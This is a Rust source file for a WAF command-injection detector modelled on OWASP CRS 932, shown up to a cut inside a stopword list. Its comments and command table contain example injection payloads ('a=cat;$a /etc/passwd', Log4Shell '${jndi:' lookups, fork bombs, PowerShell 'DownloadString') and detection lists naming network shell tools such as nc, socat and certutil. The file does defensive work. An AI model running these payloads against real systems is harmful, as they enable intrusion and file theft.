//! Command injection / remote code execution detector (OWASP CRS 932 family).
//!
//! # Shape
//!
//! A shell only runs a word as a command when the word sits in *command position*: at the
//! start of a line, after a separator (`;`, `|`, `||`, `&`, `&&`, newline), inside a
//! command substitution (`$(...)`, backticks, `<(...)`, `>(...)`). An injected payload
//! therefore almost always has the shape *separator + known command + arguments*. The
//! detector looks for exactly that, after undoing the obfuscations shells allow:
//!
//! 1. **Normalisation** (one bounded pass, `normalize`): quotes and backslashes inside
//!    words are removed (`c'a't`, `c"a"t`, `c\at`), as are Windows carets (`c^m^d`), empty
//!    constructs (`''`, ``` `` ```, `$()`, `<()`), special parameters (`$@`, `$*`, `$?`,
//!    `$$`, `$1`...), and unset variables (`$u`, `${a}`). `$IFS`/`${IFS}` and tabs become
//!    spaces, `$SHELL`/`$0` become `sh`, variables assigned earlier in the same value
//!    (`a=cat;$a /etc/passwd`) are substituted once. ASCII is lower-cased.
//! 2. **Command-position scan** (`Scanner`): every command position gets a context
//!    strength: *strong* (`$(`, glued backtick, process substitution — any known command
//!    fires), *medium* (after a separator or newline) and *weak* (value start, or after
//!    `=` in a `key=value` token). The word found there is looked up in a curated table of
//!    unix and Windows commands, each with flags: `EN` marks words that are also ordinary
//!    English (`cat`, `find`, `time`, `sleep`, `ping`, `set`...), which fire only with
//!    arguments that look technical (flags, absolute paths into system directories, URLs,
//!    IP addresses, redirections, Windows switches/drive paths) or when glued to a
//!    separator with nothing after (`;ps`, `&env`). Non-English command names (`wget`,
//!    `whoami`, `certutil`...) fire after any separator; at the value start they still
//!    need arguments that look technical, except a few that are unambiguous on their own
//!    (`whoami`, `ifconfig`, `ansible-playbook ...`). Wrappers (`time`, `nohup`, `strace`,
//!    `sudo`, `env`...) and `VAR=value` prefixes are skipped. Path-qualified binaries
//!    (`/bin/x`, `/usr/bin/x`, `bin/ansible`) and two or more known commands chained with
//!    separators also fire.
//! 3. **Structural rules**, each behind a cheap byte test: shellshock `() {`, Log4Shell
//!    `${jndi:` after resolving nested lookups (`${${lower:j}ndi:`, `${::-j}`), `$IFS`,
//!    bash expansions (`$((`, `$[`, `${x#...}`, `~+`, `!-1`), brace expansion whose first
//!    element is a command (`{cat,/etc/passwd}`), glob paths resolving to system files or
//!    binaries (`/???/c?t`, `/etc/pa[s]swd`), Windows batch `FOR ... IN (...) DO` / `IF
//!    EXIST|DEFINED|==`, PowerShell (`Invoke-Expression`, `IEX`, `DownloadString`, `-enc`),
//!    `alias x=...`, fork bombs, SMTP/IMAP/POP3 command lines after CRLF, SQLite shell dot
//!    commands (`;.shell`), pipes into an interpreter (`| sh`).
//!
//! # Deliberately not done
//!
//! * A command word in running text without a separator (`I like cat videos`, `ping me
//!   later`, `find a doctor`, `how to use ls -la`) does not fire: it cannot execute.
//!   A value *starting* with a command and technical arguments (`ls -la /etc`, `cat
//!   /etc/passwd`) does fire; a code snippet pasted into a comment field that starts with a
//!   shell command line is accepted as a false positive.
//! * English-word commands with plain-word arguments (`pip install something`, `chef report
//!   nodes`, `;top Something`, `shutdown`) are not flagged — CRS flags some at PL2/PL3.
//! * Bare sensitive paths (`/etc/shadow`) are left to the LFI detector; upload file names
//!   (CRS 932180) need the header name and are not handled; `/etc/passwd` etc. fire here
//!   only as command arguments or when glob-obfuscated.
//! * Variable substitution is one level, 16 variables, no arithmetic or parameter
//!   operators; brace expansion is one level; globbing matches a fixed list of system
//!   paths and binary directories.
//! * Markdown tables listing non-English tool names after `|` (`| wget |`) do fire, and
//!   so does inline code with a full command line (`` `ls -la` ``): a backtick after a
//!   space is a medium context (English-word commands need technical arguments), a
//!   glued backtick (``x`id` ``) is strong. Code fences (```` ``` ````) are blanked.
//! * Cost: one pass computes a bit mask of the shell bytes present (`byte_classes`); in the
//!   WAF's scan that pass is the scan's shared one (`super::classes`, `detect_classified`).
//!   Values without any trigger byte (`;|&$<>{~!\^=` and newline) stop after a three-byte
//!   prefix test of their first word against the command table (~15 ns). Otherwise every
//!   rule sits behind a test of that mask (bytes absent from the input are absent from the
//!   normalised text too), normalisation keeps an implicit identity offset map while it
//!   can, the PowerShell regex is gated by checks around `-`/`(`/`$`, the scanner jumps
//!   between separators with `memchr`, and the per-input loops (globs, braces, fork
//!   bombs) have budgets. Every gate is a necessary condition of the rule it guards, so
//!   the gates change speed, never results.
use super::Finding;
use once_cell::sync::Lazy;
use regex::bytes::Regex as BRegex;
use regex::Regex;
use std::cell::RefCell;

/// Every rule id this detector can report.
///
/// * `rce-unix-command`: a known unix command in command position (incl. `alias x=`,
///   pipes into an interpreter, path-qualified binaries, chained commands).
/// * `rce-windows-command`: a known Windows command (cmd, certutil, mshta, reg...) in
///   command position.
/// * `rce-windows-batch`: batch `FOR %x IN (...) DO` / `IF [NOT] EXIST|DEFINED|a==b`.
/// * `rce-powershell`: PowerShell cmdlets and download/exec idioms.
/// * `rce-shellshock`: `() {` function-definition prefix (CVE-2014-6271).
/// * `rce-log4shell`: `${jndi:` after resolving nested Log4j lookups.
/// * `rce-ifs`: `$IFS` / `${IFS}` word-splitting evasion.
/// * `rce-unix-expansion`: bash-only expansions (`$((`, `$[`, `${x#}`, `~+`, `!-1`,
///   brace expansion of a command, process substitution).
/// * `rce-unix-glob`: glob-obfuscated paths that resolve to system files or binaries.
/// * `rce-fork-bomb`: `f(){ f|f& };f` shaped function definitions.
/// * `rce-mail-command`: SMTP/IMAP/POP3 commands injected after a line break.
/// * `rce-sqlite-dot-command`: SQLite shell dot commands (`;.shell`, `;.system`).
pub const RULES: &[&str] = &[
    "rce-unix-command",
    "rce-windows-command",
    "rce-windows-batch",
    "rce-powershell",
    "rce-shellshock",
    "rce-log4shell",
    "rce-ifs",
    "rce-unix-expansion",
    "rce-unix-glob",
    "rce-fork-bomb",
    "rce-mail-command",
    "rce-sqlite-dot-command",
];

const R_UNIX: &str = "rce-unix-command";
const R_WIN: &str = "rce-windows-command";
const R_BATCH: &str = "rce-windows-batch";
const R_PS: &str = "rce-powershell";
const R_SHELLSHOCK: &str = "rce-shellshock";
const R_LOG4J: &str = "rce-log4shell";
const R_IFS: &str = "rce-ifs";
const R_EXP: &str = "rce-unix-expansion";
const R_GLOB: &str = "rce-unix-glob";
const R_FORK: &str = "rce-fork-bomb";
const R_MAIL: &str = "rce-mail-command";
const R_SQLITE: &str = "rce-sqlite-dot-command";

/// Longest input examined (bytes); longer values are examined on their first 64 KiB.
const MAX_INPUT: usize = 64 * 1024;

// ---------------------------------------------------------------------------------------
// Command table
// ---------------------------------------------------------------------------------------

/// Also an ordinary English word / name: needs technical arguments or a glued separator.
const EN: u16 = 1;
/// At the start of a value, fires with any argument.
const ANY0: u16 = 2;
/// Fires even alone as the whole value.
const ALONE0: u16 = 4;
/// Network tool: host names and port numbers count as technical arguments.
const NET: u16 = 8;
/// Wrapper (`time`, `nohup`...): the next word is the command.
const WRAP: u16 = 16;
/// Windows command: `/x` switches, drive paths and `%VAR%` count as technical.
const WIN: u16 = 32;
/// Interpreter: `| sh` style pipes fire.
const INTERP: u16 = 64;
/// Numeric flags (`kill -9`) count as technical.
const NUMFLAG: u16 = 128;
/// A time argument (`at 2:00`) counts as technical.
const TIMEARG: u16 = 256;
/// A bare number argument at the end (`sleep 5`) counts as technical after a separator.
const NUMARG: u16 = 512;
/// So common in prose that even `;word` alone at the end is not enough.
const VERYEN: u16 = 1024;

/// Curated command list: `name flags`, flags letters: e=EN a=ANY0 l=ALONE0 n=NET w=WRAP
/// W=WIN i=INTERP k=NUMFLAG t=TIMEARG s=NUMARG x=VERYEN (implies e).
const COMMANDS: &str = "
whoami la id e who e uname a ifconfig la ipconfig laW hostname . groups ex last ex lastlog a
lastlogin a finger ex wget an curl en nc en ncat n netcat n socat n telnet n nmap n ping en
ping6 n traceroute n tracert nW nslookup nW dig enx host enx ssh n scp n sftp n ftp en tftp n
rsync n ssh-copy-id n ssh-keygen . ssh-keyscan n lwp-download n lwp-request n sh ei bash ei
zsh i ksh i csh i tcsh i dash eix fish eix rc ex busybox a ash i python eix python2 i python3 i
perl i ruby eix php i node eix lua i irb i jrunscript . jjs . tclsh i osascript . pwsh iW gcc .
cc ex c89 . c99 . g++ . clang . go ex java ex javac . rustc . make ex cmake . ld ex gdb .
strace wa ltrace wa cat ex tac e head ekx tail ekx more ex less ex nl e od e strings e grep .
egrep . fgrep . zgrep . awk . gawk . nawk . sed . cut ex sort ex uniq . tr e rev ex tee ex
echo ex printf . find ex locate ex ls e ll e dir eWx vdir . cp e mv . rm e rmdir . mkdir .
touch ex ln e dd e df . du . mount e umount . chmod a chown a chgrp a chattr a lsattr . stat ex
file ex tar ex zip ex unzip . gzip . gunzip a bzip2 . bunzip2 a xz . unxz a zcat . zstd .
zstdcat a bsdtar a 7z . cpio . base64 . base32 . xxd . openssl . uuencode . uudecode . iconv .
uconv . column ex fold ex comm ex paste ex join ex split ex diff ex ps e top e htop . pstree .
kill ekx killall . pkill . nohup wa nice wex timeout wex exec we eval ex xargs w watch ex
sudo w doas w su ex env ew printenv . set e export ex unset ex alias ex history ex crontab a
at etx batch ex systemctl . service ex shutdown ex reboot ex halt ex poweroff . init ex
passwd e useradd a adduser a userdel a usermod a groupadd a visudo la chpasswd a chroot .
setfacl . getfacl . sleep esx usleep s time wex flock . cpulimit . setsid w unshare . nsenter .
pkexec . runuser . newgrp . apt ex apt-get . aptitude e yum . dnf . rpm . dpkg . pip ex pip3 a
pipx a npm . npx . gem ex cargo ex yarn ex vi e vim . nano e emacs . ex ex ed ex perf ex
mkfifo . mknod . iptables . ip ex route ex arp . netstat . ss ex lsof . lsmod . modprobe .
insmod . rmmod . sysctl . dmesg . journalctl . mysql . psql . sqlite3 . mongo . redis-cli .
docker ex kubectl a ansible a chef ex knife ex puppet ex cscli a date ex cal e trap ex
declare e typeset . source ex test ex true ex false ex which ex whereis . mail ex mailx .
sendmail . mutt . wall ex write ex logger . rmt . rmt-tar . rmt-dump . sftp-server . xterm .
screen ex tmux . fsockopen . bridge ex cd e pwd e pushd e popd e exit ex read ex cmd W
cmd.exe W command ex powershell aW powershell.exe aW certutil W bitsadmin W wmic W mshta W
rundll32 W regsvr32 W regedit W reg eWx net eWx net1 W netsh W sc eWx tasklist W taskkill W
schtasks W systeminfo lW cscript W wscript W msiexec W bcdedit W bcdboot W bootcfg W diskpart W
vssadmin W wevtutil W icacls W cacls W attrib W forfiles W findstr W type eWx copy eWx xcopy W
robocopy W move eWx del eWx erase eWx rd eWx md eWx format eWx start eWx call eWx expand eWx
makecab W esentutl W cmstp W installutil W msbuild W odbcconf W regasm W regsvcs W wmiprvse W
qwinsta W quser W nltest W dsquery W klist W runas W sdelete W psexec W iex W iwr W irm W
iwmi W icm W saps W sal W
";

/// Family prefixes (`ansible-x`, `ssh-x`...): any longer word starting so is a command.
const FAMILIES: [&[u8]; 6] = [b"ansible-", b"chef-", b"aa-", b"rmt-", b"ssh-", b"pip3."];

/// The command list as an open-addressing hash table (built once) with a first-two-bytes
/// filter, so that most non-command words are rejected with one bit test.
struct CmdTable {
    /// `(name, flags)` in list order.
    keys: Vec<(&'static [u8], u16)>,
    /// Slot -> index + 1 into `keys` (0 = empty); power-of-two length.
    slots: Vec<u16>,
    /// Bit `b0 << 8 | b1` is set when some name or family prefix starts with `b0 b1`
    /// (`k .` for a one-byte name `k`, reachable as `k.exe`).
    pairs: Vec<u64>,
    /// Hashed set of the first three bytes of every word [`lookup`] can accept: names,
    /// family prefixes, `xy` + digit or `.` for two-byte names (`ls.exe`, `id3`), `k.e` /
    /// `k.c` for one-byte names.
    trigrams: Vec<u64>,
    /// Some name is one byte long.
    short: bool,
}

const TABLE_BITS: u32 = 11;

const TRIGRAM_BITS: u32 = 15;

/// Little-endian value of up to 8 bytes (register arithmetic, no stack copy).
#[inline]
fn load_le(w: &[u8]) -> u64 {
    if let Some(a) = w.first_chunk::<8>() {
        return u64::from_le_bytes(*a);
    }
    let mut x = 0u64;
    for (i, &c) in w.iter().enumerate() {
        x |= u64::from(c) << (8 * i);
    }
    x
}

/// Cheap hash of a short word: first and last 8 bytes and the length.
#[inline]
fn word_hash(w: &[u8]) -> usize {
    let head = load_le(w);
    let tail = load_le(&w[w.len().saturating_sub(8)..]);
    let h = (head ^ tail.rotate_left(29) ^ w.len() as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    (h >> (64 - TABLE_BITS)) as usize
}

/// Bit index of a three-byte prefix in [`CmdTable::trigrams`].
#[inline]
fn trigram_bit(a: u8, b: u8, c: u8) -> usize {
    let x = u32::from(a) << 16 | u32::from(b) << 8 | u32::from(c);
    (x.wrapping_mul(0x9e37_79b1) >> (32 - TRIGRAM_BITS)) as usize
}

impl CmdTable {
    fn build() -> CmdTable {
        let mut t = CmdTable {
            keys: Vec::new(),
            slots: vec![0; 1 << TABLE_BITS],
            pairs: vec![0; 1024],
            trigrams: vec![0; 1 << (TRIGRAM_BITS - 6)],
            short: false,
        };
        let mut it = COMMANDS.split_whitespace();
        while let (Some(name), Some(fl)) = (it.next(), it.next()) {
            let mut f = 0u16;
            for c in fl.chars() {
                f |= match c {
                    'e' => EN,
                    'a' => ANY0,
                    'l' => ALONE0,
                    'n' => NET,
                    'w' => WRAP,
                    'W' => WIN,
                    'i' => INTERP,
                    'k' => NUMFLAG,
                    't' => TIMEARG,
                    's' => NUMARG,
                    'x' => VERYEN | EN,
                    _ => 0,
                };
            }
            t.insert(name.as_bytes(), f);
        }
        for p in FAMILIES {
            t.add_pair(p[0], p[1]);
            t.add_trigram(p[0], p[1], p[2]);
        }
        t
    }

    fn add_pair(&mut self, a: u8, b: u8) {
        let k = usize::from(a) << 8 | usize::from(b);
        self.pairs[k >> 6] |= 1 << (k & 63);
    }

    fn add_trigram(&mut self, a: u8, b: u8, c: u8) {
        let k = trigram_bit(a, b, c);
        self.trigrams[k >> 6] |= 1 << (k & 63);
    }

    fn insert(&mut self, name: &'static [u8], f: u16) {
        let mask = self.slots.len() - 1;
        let mut s = word_hash(name);
        loop {
            match self.slots[s] {
                0 => {
                    self.keys.push((name, f));
                    self.slots[s] = self.keys.len() as u16;
                    break;
                }
                k if self.keys[usize::from(k) - 1].0 == name => {
                    self.keys[usize::from(k) - 1].1 = f;
                    break;
                }
                _ => s = (s + 1) & mask,
            }
        }
        match *name {
            [a] => {
                self.short = true;
                self.add_pair(a, b'.');
                self.add_trigram(a, b'.', b'e');
                self.add_trigram(a, b'.', b'c');
            }
            [a, b] => {
                self.add_pair(a, b);
                for c in b"0123456789." {
                    self.add_trigram(a, b, *c);
                }
            }
            [a, b, c, ..] => {
                self.add_pair(a, b);
                self.add_trigram(a, b, c);
            }
            [] => {}
        }
    }

    /// Whether [`lookup`] can accept the (bracket-stripped) word `w`; `w` may also be
    /// just the first three bytes of a longer word.
    #[inline]
    fn may_match(&self, w: &[u8]) -> bool {
        match *w {
            [a, b, c, ..] => {
                let k = trigram_bit(a, b, c);
                self.trigrams[k >> 6] & (1 << (k & 63)) != 0
            }
            [a, b] => {
                let k = usize::from(a) << 8 | usize::from(b);
                self.pairs[k >> 6] & (1 << (k & 63)) != 0
            }
            [_] => self.short,
            [] => false,
        }
    }

    /// Exact lookup.
    fn get(&self, w: &[u8]) -> Option<u16> {
        let mask = self.slots.len() - 1;
        let mut s = word_hash(w);
        loop {
            match self.slots[s] {
                0 => return None,
                k => {
                    let (name, f) = self.keys[usize::from(k) - 1];
                    if name == w {
                        return Some(f);
                    }
                }
            }
            s = (s + 1) & mask;
        }
    }
}

static COMMAND_TABLE: Lazy<CmdTable> = Lazy::new(CmdTable::build);

/// Looks a (normalised, lower-case) word up; handles `.exe`, single-char bracket classes
/// (`adduse[r]`), version suffixes (`python3.10`, `gcc7.4`) and tool families.
fn lookup(word: &[u8]) -> Option<u16> {
    if word.is_empty() || word.len() > 40 {
        return None;
    }
    let buf: [u8; 40];
    let mut w = word;
    if word.contains(&b'[') {
        let mut tmp = [0u8; 40];
        let mut len = 0;
        let mut i = 0;
        // strip single-character bracket expressions: `[r]` -> `r`
        while i < word.len() {
            if word[i] == b'[' && i + 2 < word.len() && word[i + 2] == b']' {
                tmp[len] = word[i + 1];
                len += 1;
                i += 3;
                continue;
            }
            tmp[len] = word[i];
            len += 1;
            i += 1;
        }
        buf = tmp;
        w = &buf[..len];
    }
    let table = &*COMMAND_TABLE;
    if !table.may_match(w) {
        return None;
    }
    if let Some(f) = table.get(w) {
        return Some(f);
    }
    if w.len() > 4 && (w.ends_with(b".exe") || w.ends_with(b".com")) {
        w = &w[..w.len() - 4];
        if let Some(f) = table.get(w) {
            return Some(f);
        }
    }
    // tool families (every prefix ends in `-` or `.`)
    if w.iter().any(|&c| c == b'-' || c == b'.') {
        for p in FAMILIES {
            if w.len() > p.len() && w.starts_with(p) {
                return Some(ANY0 | ALONE0);
            }
        }
    }
    // version suffix
    if !w.last().is_some_and(|&c| c.is_ascii_digit() || c == b'.') {
        return None;
    }
    let mut end = w.len();
    while end > 0 && (w[end - 1].is_ascii_digit() || w[end - 1] == b'.') {
        end -= 1;
    }
    if end >= 2 && end < w.len() {
        if let Some(f) = table.get(&w[..end]) {
            // a versioned name is no longer an English word
            return Some(f & !EN);
        }
    }
    None
}

// ---------------------------------------------------------------------------------------
// Normalisation
// ---------------------------------------------------------------------------------------

/// Normalised view of the input with a map from each output byte to an input offset.
///
/// While every output byte `k` came from input offset `k` (`ident`), the map is implicit
/// and `m` stays empty; the first byte that breaks this fills `m` in.
#[derive(Default)]
struct Norm {
    n: Vec<u8>,
    m: Vec<u32>,
    ident: bool,
}

impl Norm {
    fn push(&mut self, b: u8, at: usize) {
        if self.ident {
            if at == self.n.len() {
                self.n.push(b);
                return;
            }
            self.break_ident();
        }
        self.n.push(b);
        self.m.push(at as u32);
    }

    fn break_ident(&mut self) {
        self.ident = false;
        self.m.extend(0..self.n.len() as u32);
    }

    /// Input offset of output byte `k` (`k < n.len()`).
    fn at(&self, k: usize) -> usize {
        if self.ident {
            k
        } else {
            self.m[k] as usize
        }
    }

    /// Maps the output range `[s, e)` back to the input (non-empty, clamped).
    fn map(&self, s: usize, e: usize) -> (usize, usize) {
        let len = self.n.len();
        if len == 0 || s >= len {
            return (0, 0);
        }
        let e = e.clamp(s + 1, len);
        (self.at(s), self.at(e - 1) + 1)
    }
}

/// Variables assigned in the value (`a=cat;`), substituted once during normalisation.
#[derive(Default)]
struct Vars {
    names: Vec<Vec<u8>>,
    values: Vec<Vec<u8>>,
}

impl Vars {
    fn get(&self, name: &[u8]) -> Option<&[u8]> {
        self.names
            .iter()
            .position(|n| n.eq_ignore_ascii_case(name))
            .map(|i| self.values[i].as_slice())
    }
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}
fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Collects `name=value` assignments that sit in command position.
fn collect_vars(b: &[u8]) -> Vars {
    let mut vars = Vars::default();
    let mut i = 0;
    let mut at_start = true;
    while i < b.len() && vars.names.len() < 16 {
        let c = b[i];
        if matches!(c, b';' | b'&' | b'|' | b'\n' | b'(') {
            at_start = true;
            i += 1;
            continue;
        }
        if c == b' ' || c == b'\t' {
            i += 1;
            continue;
        }
        if at_start && is_name_start(c) {
            let s = i;
            while i < b.len() && is_name(b[i]) && i - s < 32 {
                i += 1;
            }
            if i < b.len() && b[i] == b'=' {
                let name = b[s..i].to_vec();
                i += 1;
                let mut val = Vec::new();
                let mut quote = 0u8;
                while i < b.len() && val.len() < 64 {
                    let d = b[i];
                    if quote != 0 {
                        if d == quote {
                            quote = 0;
                        } else {
                            val.push(d.to_ascii_lowercase());
                        }
                        i += 1;
                        continue;
                    }
                    match d {
                        b'\'' | b'"' => quote = d,
                        b'\\' if i + 1 < b.len() => {
                            val.push(b[i + 1].to_ascii_lowercase());
                            i += 1;
                        }
                        b' ' | b'\t' | b';' | b'&' | b'|' | b'\n' | b')' => break,
                        _ => val.push(d.to_ascii_lowercase()),
                    }
                    i += 1;
                }
                vars.names.push(name);
                vars.values.push(val);
            }
            at_start = false;
            continue;
        }
        at_start = false;
        i += 1;
    }
    vars
}

/// Bytes the normaliser treats specially; everything else is copied (lower-cased).
static SPECIAL: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b"'\"\\^\t\x0b\x0c+`<>$&";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

/// One bounded pass that undoes shell quoting/escaping tricks (see module docs).
fn normalize(b: &[u8], classes: u32, vars: &Vars, out: &mut Norm) {
    out.n.clear();
    out.m.clear();
    out.ident = true;
    let len = b.len();
    out.n.reserve(len);
    if classes & NOT_IDENT == 0 {
        // only case, blanks and `+` to handle: one byte out per byte in
        normalize_plain(b, &mut out.n);
        return;
    }
    let mut i = 0;
    // whether the previous emitted bytes came from a variable expansion
    let mut after_var = false;
    while i < len {
        // fast path: copy a run of ordinary bytes (lower-cased)
        let mut j = i;
        while j < len && !SPECIAL[b[j] as usize] {
            j += 1;
        }
        if j > i {
            if out.ident && i != out.n.len() {
                out.break_ident();
            }
            let at = out.n.len();
            out.n.extend_from_slice(&b[i..j]);
            out.n[at..].make_ascii_lowercase();
            if !out.ident {
                out.m.extend((i as u32)..(j as u32));
            }
            after_var = false;
            i = j;
            continue;
        }
        let c = b[i];
        let was_var = after_var;
        after_var = false;
        match c {
            b'\'' | b'"' | b'\\' | b'^' => {
                i += 1;
                after_var = was_var;
            }
            b'\t' | 0x0b | 0x0c => {
                out.push(b' ', i);
                i += 1;
            }
            b'+' => {
                let next = b.get(i + 1).copied().unwrap_or(b' ');
                let prev = out.n.last().copied().unwrap_or(b' ');
                if matches!(next, b'/' | b'-' | b'$' | b'.')
                    || matches!(prev, b' ' | b';' | b'|' | b'&')
                {
                    out.push(b' ', i);
                } else {
                    out.push(b'+', i);
                }
                i += 1;
            }
            b'`' if b.get(i + 1) == Some(&b'`') && b.get(i + 2) == Some(&b'`') => {
                // markdown code fence
                while i < len && b[i] == b'`' {
                    i += 1;
                }
                out.push(b' ', i - 1);
            }
            b'`' if b.get(i + 1) == Some(&b'`') => i += 2,
            b'&' if entity_len(&b[i..]) > 0 => {
                out.push(b' ', i);
                i += entity_len(&b[i..]);
            }
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => i += 3,
            b'$' => {
                let next = b.get(i + 1).copied().unwrap_or(0);
                match next {
                    b'(' if b.get(i + 2) == Some(&b')') => i += 3,
                    b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#' | b'1'..=b'9' => {
                        i += 2;
                        after_var = was_var;
                    }
                    b'0' => {
                        out.push(b's', i);
                        out.push(b'h', i);
                        i += 2;
                    }
                    b'\'' | b'"' => i += 1,
                    b'{' => {
                        // ${name} / ${IFS...}
                        let s = i + 2;
                        let mut e = s;
                        while e < len && e - s < 64 && b[e] != b'}' && b[e] != b'{' && b[e] != b'$'
                        {
                            e += 1;
                        }
                        if e < len && b[e] == b'}' {
                            let content = &b[s..e];
                            let mut ne = 0;
                            while ne < content.len() && is_name(content[ne]) {
                                ne += 1;
                            }
                            let name = &content[..ne];
                            if name.eq_ignore_ascii_case(b"IFS") {
                                out.push(b' ', i);
                                i = e + 1;
                                continue;
                            }
                            if ne == content.len() && ne > 0 && is_name_start(content[0]) {
                                if name.eq_ignore_ascii_case(b"SHELL")
                                    || name.eq_ignore_ascii_case(b"BASH")
                                {
                                    out.push(b's', i);
                                    out.push(b'h', i);
                                } else if let Some(v) = vars.get(name) {
                                    for &x in v {
                                        out.push(x, i);
                                    }
                                    after_var = true;
                                }
                                i = e + 1;
                                continue;
                            }
                        }
                        out.push(b'$', i);
                        i += 1;
                    }
                    _ if is_name_start(next) => {
                        let s = i + 1;
                        let mut e = s;
                        while e < len && is_name(b[e]) && e - s < 32 {
                            e += 1;
                        }
                        let name = &b[s..e];
                        let prev = out.n.last().copied().unwrap_or(b' ');
                        let at_word_start = was_var || !(prev.is_ascii_alphanumeric());
                        if name.eq_ignore_ascii_case(b"IFS") {
                            out.push(b' ', i);
                        } else if name.eq_ignore_ascii_case(b"SHELL")
                            || name.eq_ignore_ascii_case(b"BASH")
                        {
                            out.push(b's', i);
                            out.push(b'h', i);
                        } else if let Some(v) = vars.get(name) {
                            if at_word_start {
                                for &x in v {
                                    out.push(x, i);
                                }
                                after_var = true;
                            }
                        }
                        i = e;
                    }
                    _ => {
                        out.push(b'$', i);
                        i += 1;
                    }
                }
            }
            _ => {
                out.push(c.to_ascii_lowercase(), i);
                i += 1;
            }
        }
    }
}

/// [`normalize`] for values without quotes, escapes, `$`, `&`, `<`, `>` or backticks:
/// lower-cases, turns tabs/VT/FF into spaces and `+` into a space where the full pass
/// would (next byte `/ - $ .` or previous output byte a blank or separator).
fn normalize_plain(b: &[u8], n: &mut Vec<u8>) {
    n.resize(b.len(), 0);
    for (o, &c) in n.iter_mut().zip(b) {
        let l = c.to_ascii_lowercase();
        *o = if matches!(c, b'\t' | 0x0b | 0x0c) {
            b' '
        } else {
            l
        };
    }
    if memchr::memchr(b'+', b).is_none() {
        return;
    }
    for i in memchr::memchr_iter(b'+', b) {
        let next = b.get(i + 1).copied().unwrap_or(b' ');
        let prev = if i > 0 { n[i - 1] } else { b' ' };
        if matches!(next, b'/' | b'-' | b'$' | b'.') || matches!(prev, b' ' | b';' | b'|' | b'&') {
            n[i] = b' ';
        }
    }
}

/// Length of an HTML character reference (`&#59;`, `&#x3b;`, `&lt;`) at the start of `b`.
fn entity_len(b: &[u8]) -> usize {
    let mut j = 1;
    if b.get(1) == Some(&b'#') {
        j = 2;
        if matches!(b.get(2), Some(b'x' | b'X')) {
            j = 3;
        }
    }
    let s = j;
    while j < b.len() && j - s < 10 && b[j].is_ascii_alphanumeric() {
        j += 1;
    }
    if j > s && b.get(j) == Some(&b';') {
        j + 1
    } else {
        0
    }
}

// ---------------------------------------------------------------------------------------
// Command-position scanner
// ---------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Ctx {
    /// Value start or `key=` in a value: needs technical arguments.
    Weak,
    /// After a separator or newline.
    Medium,
    /// Inside `$(`, a glued backtick, `<(`/`>(`: any known command.
    Strong,
}

fn is_sep(c: u8) -> bool {
    matches!(
        c,
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b')' | b'<' | b'>' | b'{' | b'}'
    )
}

fn is_space(c: u8) -> bool {
    c == b' '
}

/// Bytes of a command word: ASCII alphanumerics and `-_.+[]`.
static WORD_BYTE: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+' | b'[' | b']');
        c += 1;
    }
    t
};

/// Bytes where [`Scanner::run`] resumes when no command position is open: separators,
/// substitutions, redirections, and `=` (a `key=value` token).
static OUTSIDE_STOP: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b";\n\r|&`$<>=";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

/// Bytes that may end a token: blanks ([`is_space`]), separators ([`is_sep`]) and `$`
/// (when it opens `$(`).
static TOKEN_STOP: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b" ;|&\n\r`()<>{}$";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t
};

struct Scanner<'a> {
    n: &'a [u8],
    /// The [`OUTSIDE_STOP`] bytes that can occur in `n` (from the raw byte classes).
    stops: Stops,
}

/// How [`Scanner::run`] finds the next [`OUTSIDE_STOP`] byte.
#[derive(Clone, Copy)]
enum Stops {
    None,
    One(u8),
    Two(u8, u8),
    Three(u8, u8, u8),
    Table,
}

impl Stops {
    /// `n` holds only bytes of the input (lower-cased), blanks and `sh`, so the stop bytes
    /// it can contain are those the input's byte classes show.
    fn from_classes(classes: u32) -> Stops {
        let mut found = [0u8; 3];
        let mut k = 0;
        for (bit, c) in [
            (B_SEMI, b';'),
            (B_LF, b'\n'),
            (B_CR, b'\r'),
            (B_PIPE, b'|'),
            (B_AMP, b'&'),
            (B_TICK, b'`'),
            (B_DOLLAR, b'$'),
            (B_LT, b'<'),
            (B_GT, b'>'),
            (B_EQ, b'='),
        ] {
            if classes & bit != 0 {
                if k == 3 {
                    return Stops::Table;
                }
                found[k] = c;
                k += 1;
            }
        }
        match k {
            0 => Stops::None,
            1 => Stops::One(found[0]),
            2 => Stops::Two(found[0], found[1]),
            _ => Stops::Three(found[0], found[1], found[2]),
        }
    }

    fn find(self, h: &[u8]) -> Option<usize> {
        match self {
            Stops::None => None,
            Stops::One(a) => memchr::memchr(a, h),
            Stops::Two(a, b) => memchr::memchr2(a, b, h),
            Stops::Three(a, b, c) => memchr::memchr3(a, b, c, h),
            Stops::Table => h.iter().position(|&c| OUTSIDE_STOP[c as usize]),
        }
    }
}

/// What the argument scan found after a command word.
#[derive(Default, Clone, Copy)]
struct Args {
    count: usize,
    flag_short: bool,
    flag_any: bool,
    numflag: bool,
    root_path: bool,
    any_path: bool,
    url: bool,
    ip: bool,
    host: bool,
    port: bool,
    redirect: bool,
    win: bool,
    time: bool,
    file_ext: bool,
    script: bool,
    path_ext: bool,
    bang_cmd: bool,
    sensitive: bool,
    last_number: bool,
    prose: bool,
    first: (usize, usize),
}

/// Words that mark running prose rather than command arguments.
const STOPWORDS: &[&[u8]] = &[
    b"a", b"an", b"the", b"is", b"are", b"was", b"were", b"be", b"to", b"of", b"and", b"or", b"in",
    b"on", b"for", b"with", b"it", b"its", b"this", b"that", b"too", b"very", b"not", b"but",
